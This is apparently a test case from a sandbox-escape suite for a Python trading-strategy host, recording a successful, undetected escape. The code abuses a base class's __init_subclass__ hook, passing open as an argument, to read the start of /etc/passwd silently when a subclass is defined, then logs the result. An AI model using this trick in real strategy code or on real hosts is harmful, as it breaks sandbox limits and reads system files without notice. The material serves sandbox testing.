# id: L17
# family: language
# goal: run code through the hook of a base class when a subclass is made
# finding: PY111 PY113 PY201 PY504
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


found = []


class Base:
    def __init_subclass__(subclass, reader=None, **keywords):
        try:
            found.append(reader("/etc/passwd").read(20))
        except Exception:
            pass


class Holder(Base, reader=open):
    pass


def attack(ctx, bar):
    return found and found[0]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
